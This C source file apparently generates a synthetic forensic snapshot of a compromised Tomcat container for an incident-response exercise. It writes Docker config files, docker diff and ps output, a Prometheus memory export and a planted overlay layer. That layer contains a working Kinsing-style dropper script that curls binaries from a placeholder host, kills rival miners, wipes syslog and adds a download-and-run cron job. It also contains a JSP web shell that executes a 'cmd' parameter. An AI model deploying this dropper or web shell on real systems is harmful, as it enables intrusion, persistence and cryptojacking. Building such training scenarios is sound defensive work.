/* SPDX-License-Identifier: Apache-2.0 */
/*
 * node.c - the node snapshot of the tomcat-miner story: the container's part of
 * /var/lib/docker (config.v2.json, hostconfig.json, json-file log, layerdb mount ids, the
 * overlay2 upper layer with the added files: the zzz script, ELF-looking kinsing and
 * kdevtmpfsi blobs with fixed bytes, the uploaded x.war as a real zip, the access log),
 * `docker diff` and `docker ps` outputs, and a Prometheus query_range export of the pods'
 * memory working set. Symlinks (overlay2/l/) and empty work/ folders are not written.
 */
#include "tm.h"

#include <stdio.h>
#include <string.h>
#include <zlib.h>

#define CDIR DOCKER_ROOT "/containers/" CID
#define DIFF DOCKER_ROOT "/overlay2/" MOUNT_ID "/diff"
#define VOL "/var/lib/kubelet/pods/" POD_UID
#define PROM_FILE "prometheus/container_memory_working_set_bytes.json"

static const char zzz[] =
    "#!/bin/sh\n"
    "ulimit -n 65535\n"
    "rm -rf /var/log/syslog\n"
    "chattr -iua /tmp/ 2>/dev/null\n"
    "chattr -iua /var/tmp/ 2>/dev/null\n"
    "ps aux | grep -v grep | grep -E 'kthreaddi|sysrv|xmrig|kdevtmpfsi' | awk '{print $2}' "
    "| xargs -r kill -9\n"
    "cd /tmp\n"
    "curl -fsSL http://" DROPPER "/kdevtmpfsi -o /tmp/kdevtmpfsi\n"
    "curl -fsSL http://" DROPPER "/kinsing -o /tmp/kinsing\n"
    "chmod +x /tmp/kdevtmpfsi /tmp/kinsing\n"
    "nohup /tmp/kinsing >/dev/null 2>&1 &\n"
    "(crontab -l 2>/dev/null; echo \"* * * * * curl -fsSL http://" DROPPER "/zzz | sh > "
    "/dev/null 2>&1\") | crontab - 2>/dev/null\n";

static const char jsp[] =
    "<%@ page import=\"java.io.*\" %><%\n"
    "String c = request.getParameter(\"cmd\");\n"
    "if (c != null) {\n"
    "    Process p = Runtime.getRuntime().exec(new String[] {\"/bin/sh\", \"-c\", c});\n"
    "    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));\n"
    "    String l;\n"
    "    while ((l = r.readLine()) != null) out.println(l);\n"
    "}\n"
    "%>\n";

static const char manifest[] = "Manifest-Version: 1.0\r\nCreated-By: 1.8.0_392 (Oracle "
                               "Corporation)\r\n\r\n";
static const char webxml[] =
    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
    "<web-app xmlns=\"http://xmlns.jcp.org/xml/ns/javaee\" version=\"4.0\">\n"
    "  <display-name>reports</display-name>\n"
    "</web-app>\n";

static void le16(struct sb *b, unsigned v)
{
    unsigned char c[2] = { (unsigned char)v, (unsigned char)(v >> 8) };
    sb_add(b, (const char *)c, 2);
}

static void le32(struct sb *b, unsigned long v)
{
    le16(b, (unsigned)(v & 0xffff));
    le16(b, (unsigned)(v >> 16));
}

/* A stored (uncompressed) zip archive of n entries, as a .war. */
static void zip(struct sb *z, const char *const *names, const char *const *data, int n)
{
    struct sb cd = { 0 };
    unsigned long offs[8], crc;
    unsigned dtime = (11u << 11) | (3u << 5) | 1u;           /* 11:03:02, DOS format */
    unsigned ddate = ((2026u - 1980u) << 9) | (10u << 5) | 20u; /* 2026-10-20 */
    int i;

    for (i = 0; i < n; i++) {
        size_t len = strlen(data[i]), nl = strlen(names[i]);
        crc = crc32(0, (const Bytef *)data[i], (uInt)len);
        offs[i] = z->n;
        le32(z, 0x04034b50);
        le16(z, 10); le16(z, 0); le16(z, 0); le16(z, dtime); le16(z, ddate);
        le32(z, crc); le32(z, len); le32(z, len); le16(z, (unsigned)nl); le16(z, 0);
        sb_add(z, names[i], nl);
        sb_add(z, data[i], len);
        le32(&cd, 0x02014b50);
        le16(&cd, 0x031e); le16(&cd, 10); le16(&cd, 0); le16(&cd, 0);
        le16(&cd, dtime); le16(&cd, ddate);
        le32(&cd, crc); le32(&cd, len); le32(&cd, len); le16(&cd, (unsigned)nl);
        le16(&cd, 0); le16(&cd, 0); le16(&cd, 0); le16(&cd, 0);
        le32(&cd, 0100644ul << 16); le32(&cd, offs[i]);
        sb_add(&cd, names[i], nl);
    }
    crc = z->n;
    sb_add(z, cd.p, cd.n);
    le32(z, 0x06054b50);
    le16(z, 0); le16(z, 0); le16(z, (unsigned)n); le16(z, (unsigned)n);
    le32(z, cd.n); le32(z, crc); le16(z, 0);
    free(cd.p);
}

static void rng_bytes(unsigned char *o, size_t n)
{
    size_t i;

    for (i = 0; i < n; i++)
        o[i] = (unsigned char)(rng_u64() >> 56);
}

/* An ELF64 x86-64 executable header, one PT_LOAD, then fixed pseudo-random bytes with the
 * strings an analyst would pull out of the sample. */
static void elf_blob(const char *rel, size_t size, uint64_t salt, const char *const *strs, int n)
{
    static const unsigned char hdr[64] = {
        0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        2, 0, 0x3e, 0, 1, 0, 0, 0, 0x18, 0x10, 0x40, 0, 0, 0, 0, 0,
        64, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0,
        0, 0, 0, 0, 64, 0, 56, 0, 1, 0, 64, 0, 0, 0, 0, 0 };
    unsigned char ph[56] = { 1, 0, 0, 0, 5, 0, 0, 0 };
    struct sb b = { 0 };
    unsigned char chunk[4096];
    size_t off;
    int i;

    ph[18] = 0x40; /* p_vaddr 0x400000 */
    ph[26] = 0x40; /* p_paddr */
    for (i = 0; i < 8; i++) {
        ph[32 + i] = (unsigned char)((uint64_t)size >> (8 * i)); /* p_filesz */
        ph[40 + i] = (unsigned char)((uint64_t)size >> (8 * i)); /* p_memsz */
    }
    ph[49] = 0x10; /* p_align 0x1000 */
    sb_add(&b, (const char *)hdr, sizeof(hdr));
    sb_add(&b, (const char *)ph, sizeof(ph));
    sb_s(&b, "\0\0\0\0\0\0\0\0UPX!");
    rng_seed(salt);
    for (off = 0; b.n < size; off++) {
        size_t want = size - b.n < sizeof(chunk) ? size - b.n : sizeof(chunk);
        rng_bytes(chunk, want);
        sb_add(&b, (const char *)chunk, want);
        if (off % 7 == 3 && n)
            sb_add(&b, strs[off / 7 % (size_t)n], strlen(strs[off / 7 % (size_t)n]) + 1);
    }
    b.n = size;
    out_file(rel, b.p, b.n);
    free(b.p);
}

static void gen_layer(void)
{
    static const char *const miner_strs[] = {
        POOL_URL, "xmrig", "randomx", "--donate-level=1", "\"url\": \"" POOL_URL "\"",
        "\"user\": \"4AdjKv7wNh3SgFh2eTq1s9YxPmAr5Zu6LcW8bQ2oEx1VfRtJnKyGhUs3DpMi\"",
        "$Info: This file is packed with the UPX executable packer http://upx.sf.net $" };
    static const char *const kinsing_strs[] = {
        "main.minerRunningCheck", "main.masscan", "main.getTask", "main.downloadAndExecute",
        "http://" DROPPER "/get", "http://" DROPPER "/mg", "/tmp/kdevtmpfsi", "Go build ID: " };
    const char *wn[2] = { "META-INF/MANIFEST.MF", "index.jsp" };
    const char *wd[2] = { manifest, jsp };
    const char *rn[2] = { "META-INF/MANIFEST.MF", "WEB-INF/web.xml" };
    const char *rd[2] = { manifest, webxml };
    struct sb war = { 0 };

    out_file(DIFF "/tmp/zzz", zzz, strlen(zzz));
    elf_blob(DIFF "/tmp/kdevtmpfsi", 180 * 1024 + 311, 0x6b64657674ULL, miner_strs, 7);
    elf_blob(DIFF "/tmp/kinsing", 140 * 1024 + 77, 0x6b696e73ULL, kinsing_strs, 8);
    zip(&war, wn, wd, 2);
    out_file(DIFF "/usr/local/tomcat/webapps/x.war", war.p, war.n);
    out_file(DIFF "/usr/local/tomcat/webapps/x/index.jsp", jsp, strlen(jsp));
    out_file(DIFF "/usr/local/tomcat/webapps/x/META-INF/MANIFEST.MF", manifest,
              strlen(manifest));
    war.n = 0;
    zip(&war, rn, rd, 2);
    out_file(DIFF "/usr/local/tomcat/webapps/reports.war", war.p, war.n);
    out_file(DIFF "/usr/local/tomcat/webapps/reports/WEB-INF/web.xml", webxml,
              strlen(webxml));
    out_file(DIFF "/usr/local/tomcat/webapps/reports/META-INF/MANIFEST.MF", manifest,
              strlen(manifest));
    free(war.p);
    out_file(DIFF "/" ACCESS_LOG_IN_LAYER, access_log.p, access_log.n);
    out_file(DOCKER_ROOT "/overlay2/" MOUNT_ID "/link", "Q4ZK7M2XW5NB3RT6Y8VLPJ2HCD", 26);
    out_file(DOCKER_ROOT "/overlay2/" MOUNT_ID "/lower",
              "l/F7TQ2LKX9W3MNB5VR8YJ4HCZ6D:l/A2PD6RW8XK3TQ9LM5NB7VJ4CHY:"
              "l/M8VC3ZT6RK2WQ9XL5NB7PJ4HDY:l/X3KQ7TB9MW2RL5VN8CJ4PZ6HDY", 115);
    out_file(DOCKER_ROOT "/image/overlay2/layerdb/mounts/" CID "/mount-id", MOUNT_ID, 64);
    out_file(DOCKER_ROOT "/image/overlay2/layerdb/mounts/" CID "/init-id", MOUNT_ID "-init",
              69);
    out_file(DOCKER_ROOT "/image/overlay2/layerdb/mounts/" CID "/parent",
              "sha256:2b8e4f6a0c1d3e5f7a9b0c2d4e6f8a1b3c5d7e9f0a2b4c6d8e1f3a5b7c9d0e2f", 71);
}

static void gen_container(void)
{
    struct sb b = { 0 };
    char created[TF_LEN], started[TF_LEN];
    int64_t t0 = day0 - T_POD_START_DAYS_AGO * 86400 * NS + (int64_t)(14 * 3600 + 5) * NS;

    tf_iso_ns(created, t0 + 412335871LL);
    tf_iso_ns(started, t0 + 1 * NS + 902231745LL);
    sb_f(&b, "{\"StreamConfig\":{},\"State\":{\"Running\":true,\"Paused\":false,"
        "\"Restarting\":false,\"OOMKilled\":false,\"RemovalInProgress\":false,\"Dead\":false,"
        "\"Pid\":%d,\"ExitCode\":0,\"Error\":\"\",\"StartedAt\":\"%s\",\"FinishedAt\":"
        "\"0001-01-01T00:00:00Z\",\"Health\":null},", CTR_PID, started);
    sb_f(&b, "\"ID\":\"" CID "\",\"Created\":\"%s\",", created);
    sb_s(&b,
        "\"Managed\":false,\"Path\":\"catalina.sh\",\"Args\":[\"run\"],\"Config\":{\"Hostname\":"
        "\"" POD "\",\"Domainname\":\"\",\"User\":\"0\",\"AttachStdin\":false,\"AttachStdout\":"
        "false,\"AttachStderr\":false,\"ExposedPorts\":{\"8080/tcp\":{}},\"Tty\":false,"
        "\"OpenStdin\":false,\"StdinOnce\":false,\"Env\":[\"KUBERNETES_SERVICE_HOST=172.20.0.1\","
        "\"KUBERNETES_SERVICE_PORT=443\",\"TOMCAT_WEB_SERVICE_HOST=172.20.41.9\","
        "\"PATH=/usr/local/tomcat/bin:/opt/java/openjdk/bin:/usr/local/sbin:/usr/local/bin:"
        "/usr/sbin:/usr/bin:/sbin:/bin\",\"JAVA_HOME=/opt/java/openjdk\",\"CATALINA_HOME="
        "/usr/local/tomcat\",\"TOMCAT_MAJOR=9\",\"TOMCAT_VERSION=9.0.65\"],\"Cmd\":["
        "\"catalina.sh\",\"run\"],\"Healthcheck\":{\"Test\":[\"NONE\"]},\"Image\":\"" IMAGE_ID
        "\",\"Volumes\":null,\"WorkingDir\":\"/usr/local/tomcat\",\"Entrypoint\":null,"
        "\"OnBuild\":null,\"Labels\":{\"annotation.io.kubernetes.container.hash\":\"5d2e8b1f\","
        "\"annotation.io.kubernetes.container.ports\":\"[{\\\"name\\\":\\\"http\\\","
        "\\\"containerPort\\\":8080,\\\"protocol\\\":\\\"TCP\\\"}]\","
        "\"annotation.io.kubernetes.container.restartCount\":\"0\","
        "\"io.kubernetes.container.logpath\":\"/var/log/pods/" NSP "_" POD "_" POD_UID "/" CTR
        "/0.log\",\"io.kubernetes.container.name\":\"" CTR "\",\"io.kubernetes.docker.type\":"
        "\"container\",\"io.kubernetes.pod.name\":\"" POD "\",\"io.kubernetes.pod.namespace\":"
        "\"" NSP "\",\"io.kubernetes.pod.uid\":\"" POD_UID "\",\"io.kubernetes.sandbox.id\":\""
        PAUSE_ID "\"},\"StopSignal\":\"SIGTERM\"},\"Image\":\"" IMAGE_ID "\",\"ImageManifest\":"
        "null,\"NetworkSettings\":{\"Bridge\":\"\",\"SandboxID\":\"\",\"HairpinMode\":false,"
        "\"LinkLocalIPv6Address\":\"\",\"LinkLocalIPv6PrefixLen\":0,\"Networks\":null,"
        "\"Service\":null,\"Ports\":null,\"SandboxKey\":\"\",\"SecondaryIPAddresses\":null,"
        "\"SecondaryIPv6Addresses\":null,\"IsAnonymousEndpoint\":false,\"HasSwarmEndpoint\":"
        "false},\"LogPath\":\"/var/lib/docker/containers/" CID "/" CID "-json.log\",\"Name\":"
        "\"/k8s_" CTR "_" POD "_" NSP "_" POD_UID "_0\",\"Driver\":\"overlay2\",\"OS\":\"linux\","
        "\"RestartCount\":0,\"HasBeenStartedBefore\":true,\"HasBeenManuallyStopped\":false,"
        "\"MountPoints\":{\"/dev/termination-log\":{\"Source\":\"" VOL "/containers/" CTR
        "/a3c91e07\","
        "\"Destination\":\"/dev/termination-log\",\"RW\":true,\"Name\":\"\",\"Driver\":\"\","
        "\"Type\":\"bind\",\"Propagation\":\"rprivate\",\"Spec\":{\"Type\":\"bind\",\"Source\":"
        "\"" VOL "/containers/" CTR "/a3c91e07\",\"Target\":\"/dev/termination-log\"},"
        "\"SkipMountpointCreation\":false},\"/etc/hosts\":{\"Source\":\"" VOL "/etc-hosts\","
        "\"Destination\":\"/etc/hosts\",\"RW\":true,\"Name\":\"\",\"Driver\":\"\",\"Type\":"
        "\"bind\",\"Propagation\":\"rprivate\",\"Spec\":{\"Type\":\"bind\",\"Source\":"
        "\"" VOL "/etc-hosts\",\"Target\":\"/etc/hosts\"},\"SkipMountpointCreation\":false},"
        "\"/var/run/secrets/kubernetes.io/serviceaccount\":{\"Source\":\"" VOL "/volumes/"
        "kubernetes.io~projected/kube-api-access-7xq2d\",\"Destination\":\"/var/run/secrets/"
        "kubernetes.io/serviceaccount\",\"RW\":false,\"Name\":\"\",\"Driver\":\"\",\"Type\":"
        "\"bind\",\"Propagation\":\"rprivate\",\"Spec\":{\"Type\":\"bind\",\"Source\":\"" VOL "/"
        "volumes/kubernetes.io~projected/kube-api-access-7xq2d\",\"Target\":\"/var/run/secrets/"
        "kubernetes.io/serviceaccount\",\"ReadOnly\":true},\"SkipMountpointCreation\":false}},"
        "\"SecretReferences\":null,\"ConfigReferences\":null,\"MountLabel\":\"\","
        "\"ProcessLabel\":\"\",\"AppArmorProfile\":\"unconfined\",\"SeccompProfile\":"
        "\"unconfined\",\"NoNewPrivileges\":false,\"HostnamePath\":\"/var/lib/docker/containers/"
        PAUSE_ID "/hostname\",\"HostsPath\":\"" VOL "/etc-hosts\",\"ShmPath\":\"/var/lib/docker/"
        "containers/" PAUSE_ID "/mounts/shm\",\"ResolvConfPath\":\"/var/lib/docker/containers/"
        PAUSE_ID "/resolv.conf\",\"LocalNodeIP\":\"" NODE_IP "\"}\n");
    out_file(CDIR "/config.v2.json", b.p, b.n);
    b.n = 0;
    sb_s(&b, "{\"Binds\":[\"" VOL "/volumes/kubernetes.io~projected/kube-api-access-7xq2d:"
        "/var/run/secrets/kubernetes.io/serviceaccount:ro\",\"" VOL "/etc-hosts:/etc/hosts\","
        "\"" VOL "/containers/" CTR "/a3c91e07:/dev/termination-log\"],\"ContainerIDFile\":\"\","
        "\"LogConfig\":{\"Type\":\"json-file\",\"Config\":{\"max-file\":\"5\",\"max-size\":"
        "\"10m\"}},\"NetworkMode\":\"container:" PAUSE_ID "\",\"PortBindings\":null,"
        "\"RestartPolicy\":{\"Name\":\"no\",\"MaximumRetryCount\":0},\"AutoRemove\":false,"
        "\"VolumeDriver\":\"\",\"VolumesFrom\":null,\"ConsoleSize\":[0,0],\"CapAdd\":null,"
        "\"CapDrop\":null,\"CgroupnsMode\":\"private\",\"Dns\":null,\"DnsOptions\":null,"
        "\"DnsSearch\":null,\"ExtraHosts\":null,\"GroupAdd\":null,\"IpcMode\":\"container:"
        PAUSE_ID "\",\"Cgroup\":\"\",\"Links\":null,\"OomScoreAdj\":968,\"PidMode\":\"\","
        "\"Privileged\":false,\"PublishAllPorts\":false,\"ReadonlyRootfs\":false,"
        "\"SecurityOpt\":[\"seccomp=unconfined\"],\"UTSMode\":\"\",\"UsernsMode\":\"\","
        "\"ShmSize\":67108864,\"Runtime\":\"runc\",\"Isolation\":\"\",\"CpuShares\":256,"
        "\"Memory\":3221225472,\"NanoCpus\":0,\"CgroupParent\":\"/kubepods/burstable/pod"
        POD_UID "\",\"CpuPeriod\":100000,\"CpuQuota\":200000,\"Devices\":[],"
        "\"MemorySwap\":3221225472,\"OomKillDisable\":false,\"PidsLimit\":null,"
        "\"MaskedPaths\":[\"/proc/asound\",\"/proc/acpi\",\"/proc/kcore\",\"/proc/keys\","
        "\"/proc/latency_stats\",\"/proc/timer_list\",\"/proc/timer_stats\",\"/proc/sched_debug\","
        "\"/proc/scsi\",\"/sys/firmware\"],\"ReadonlyPaths\":[\"/proc/bus\",\"/proc/fs\","
        "\"/proc/irq\",\"/proc/sys\",\"/proc/sysrq-trigger\"]}\n");
    out_file(CDIR "/hostconfig.json", b.p, b.n);
    b.n = 0;
    sb_s(&b, "{\"Repositories\":{\"registry.acme-shop.example/shop/tomcat-web\":{"
            "\"registry.acme-shop.example/shop/tomcat-web:2.14.0\":\"" IMAGE_ID "\","
            "\"registry.acme-shop.example/shop/tomcat-web@sha256:0d5e3f7a9b1c2d4e6f8a0b2c4d6e8f0a"
            "1b3c5d7e9f1a3b5c7d9e1f3a5b7c9d1e\":\"" IMAGE_ID "\"}}}");
    out_file(DOCKER_ROOT "/image/overlay2/repositories.json", b.p, b.n);
    free(b.p);
}

static void gen_outputs(void)
{
    struct sb b = { 0 };

    sb_s(&b,
        "C /tmp\n"
        "A /tmp/kdevtmpfsi\n"
        "A /tmp/kinsing\n"
        "A /tmp/zzz\n"
        "C /usr\n"
        "C /usr/local\n"
        "C /usr/local/tomcat\n"
        "C /usr/local/tomcat/logs\n"
        "A /usr/local/tomcat/logs/localhost_access_log.2026-10-20.txt\n"
        "C /usr/local/tomcat/webapps\n"
        "A /usr/local/tomcat/webapps/reports\n"
        "A /usr/local/tomcat/webapps/reports.war\n"
        "A /usr/local/tomcat/webapps/reports/META-INF\n"
        "A /usr/local/tomcat/webapps/reports/META-INF/MANIFEST.MF\n"
        "A /usr/local/tomcat/webapps/reports/WEB-INF\n"
        "A /usr/local/tomcat/webapps/reports/WEB-INF/web.xml\n"
        "A /usr/local/tomcat/webapps/x\n"
        "A /usr/local/tomcat/webapps/x.war\n"
        "A /usr/local/tomcat/webapps/x/META-INF\n"
        "A /usr/local/tomcat/webapps/x/META-INF/MANIFEST.MF\n"
        "A /usr/local/tomcat/webapps/x/index.jsp\n");
    out_file("node-snapshot/docker-diff-" CID12 ".txt", b.p, b.n);
    b.n = 0;
    sb_s(&b,
        "CONTAINER ID   IMAGE                                                COMMAND        "
        "          CREATED      STATUS      PORTS     NAMES\n"
        CID12 "   " IMAGE "   \"catalina.sh run\"        2 days ago   Up 2 days   "
        "          k8s_" CTR "_" POD "_" NSP "_" POD_UID "_0\n");
    sb_s(&b, "51c0d8e3a9f2   registry.k8s.io/pause:3.9                            "
            "\"/pause\"                 2 days ago   Up 2 days             k8s_POD_" POD "_"
            NSP "_" POD_UID "_0\n"
            "7a41e0c93b5d   602401143452.dkr.ecr.eu-west-1.amazonaws.com/amazon-k8s-cni:v1.18.3 "
            "\"/app/aws-vpc-cni\"       9 days ago   Up 9 days             k8s_aws-node_aws-"
            "node-5xk2p_kube-system_a0c4e7f1-2b3d-4e5f-8a9b-0c1d2e3f4a5b_0\n"
            "e2b8c4f6a0d1   falcosecurity/falco:0.39.1                           "
            "\"/usr/bin/falco --mod…\"   9 days ago   Up 9 days             k8s_falco_falco-"
            "q7d4m_falco_5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9_0\n");
    out_file("node-snapshot/docker-ps.txt", b.p, b.n);
    free(b.p);
}

/* query_range result, one sample a minute over the day. */
static void gen_prometheus(void)
{
    static const struct { const char *pod, *node, *ip, *id; int from, to; } ser[3] = {
        { POD, NODE, NODE_IP, POD_UID "/" CID, 0, 86400 },
        { POD2, NODE_A, NODE_A_IP, "8c2d4e6f-0a1b-4c3d-9e5f-7a8b9c0d1e2f/4d7a0c3e6f9b2d5a8c1e4f7"
          "b0d3a6c9e2f5b8d1a4c7e0f3b6d9a2c5e8f1b4d7a0c3e6", 0, 86400 },
        { POD3, NODE_B, NODE_B_IP, "f1e2d3c4-b5a6-4978-8a6b-5c4d3e2f1a0b/2f5b8d1a4c7e0f3b6d9a2c5e8"
          "f1b4d7a0c3e6f9b2d5a8c1e4f7b0d3a6c9e2f5b8d1a4c7e", T_RELABEL + 30, 86400 } };
    struct sb b = { 0 };
    int i, s;

    sb_s(&b, "{\"status\":\"success\",\"data\":{\"resultType\":\"matrix\",\"result\":[");
    for (i = 0; i < 3; i++) {
        double v = 640e6;
        sb_f(&b, "%s{\"metric\":{\"__name__\":\"container_memory_working_set_bytes\","
                  "\"container\":\"" CTR "\",\"id\":\"/kubepods/burstable/pod%.*s\","
                  "\"image\":\"" IMAGE "\",\"instance\":\"%s:10250\",\"job\":\"kubelet\","
                  "\"metrics_path\":\"/metrics/cadvisor\",\"namespace\":\"" NSP "\","
                  "\"node\":\"%s\",\"pod\":\"%s\"},\"values\":[", i ? "," : "",
                  (int)strlen(ser[i].id), ser[i].id, ser[i].ip, ser[i].node, ser[i].pod);
        for (s = (ser[i].from + 59) / 60 * 60; s < ser[i].to; s += 60) {
            int64_t t = at(s) / NS;
            v += ((double)rng_n(2001) - 1000.0) * 12e3;
            if (v < 560e6)
                v = 560e6 + rng_n(1000) * 1e4;
            if (v > 780e6)
                v = 780e6 - rng_n(1000) * 1e4;
            double out = v;
            if (i == 0 && s >= T_MINER + 8) {
                double ramp = (s - T_MINER) / 120.0;
                out = v + (ramp > 1 ? 1 : ramp) * (1.68e9 + rng_n(1000) * 9e4);
            }
            sb_f(&b, "%s[%lld,\"%lld\"]", s == (ser[i].from + 59) / 60 * 60 ? "" : ",",
                      (long long)t, (long long)out);
        }
        sb_s(&b, "]}");
    }
    sb_s(&b, "]}}\n");
    out_file(PROM_FILE, b.p, b.n);
    free(b.p);
    note_at(at(T_MINER + 120), PROM_FILE, "pod " POD " memory working set above 2 GB "
             "(from ~0.65 GB) two minutes after kdevtmpfsi started");
}

void gen_node(void)
{
    gen_container();
    gen_outputs();
    gen_prometheus();
    gen_layer(); /* last: reseeds the PRNG for the fixed blob bytes */
}
